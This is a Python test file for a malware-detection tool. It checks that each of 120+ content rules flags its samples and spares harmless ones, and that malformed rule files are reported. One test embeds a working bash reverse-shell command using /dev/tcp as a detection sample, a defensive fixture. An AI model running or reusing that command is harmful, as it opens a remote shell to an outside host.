"""Every content rule finds its samples and leaves their harmless siblings alone."""

from __future__ import annotations

import re
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tutela.errors import BadSettings
from tutela.extract.files.rules import check_folder, load_rules, own_rule_files
from tutela.extract.files.scripts import undisguised

_SAMPLES = Path(__file__).parent / "rules"


def _rules() -> dict[str, dict[str, Any]]:
    found: dict[str, dict[str, Any]] = {}
    for path in sorted(_SAMPLES.glob("*.toml")):
        found.update(tomllib.loads(path.read_text("utf-8")))
    return found


def _bytes(rule: dict[str, Any], side: str) -> Iterator[bytes]:
    for text in rule.get(side, ()):
        yield undisguised(text, rule["kind"]).encode()
    for digits in rule.get(f"{side}_hex", ()):
        yield bytes.fromhex(digits)


def _hits(data: bytes, kind: str) -> set[str]:
    return {rule.name for rule in load_rules(()).match(data, kind, 10)}


def _names() -> list[str]:
    return [name for path in own_rule_files() for name in re.findall(r"(?m)^rule (\w+)", path.read_text("utf-8"))]


def test_there_are_at_least_120_rules_and_each_has_samples_of_both_sides() -> None:
    names, samples = _names(), _rules()
    assert len(names) >= 120
    assert sorted(names) == sorted(samples)
    for name, rule in samples.items():
        assert list(_bytes(rule, "match")), name
        assert list(_bytes(rule, "pass")), name


@pytest.mark.parametrize("name", sorted(_rules()))
def test_rule_finds_its_samples_and_passes_their_siblings(name: str) -> None:
    rule = _rules()[name]
    for data in _bytes(rule, "match"):
        assert name in _hits(data, rule["kind"]), data[:200]
    for data in _bytes(rule, "pass"):
        assert name not in _hits(data, rule["kind"]), data[:200]


def test_a_rule_is_only_asked_about_the_kinds_it_names() -> None:
    text = b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    assert "sh_dev_tcp_shell" in _hits(text, "shell")
    assert not _hits(text, "csv")


def test_operators_folder_with_a_wrong_rule_names_the_file(tmp_path: Path) -> None:
    (tmp_path / "good.yar").write_text('rule mine { strings: $a = "specimen-mark" condition: $a }')
    assert check_folder(tmp_path) == 1
    (tmp_path / "bad.yar").write_text("rule broken { condition: }")
    with pytest.raises(BadSettings) as caught:
        check_folder(tmp_path)
    assert "bad.yar" in str(caught.value)
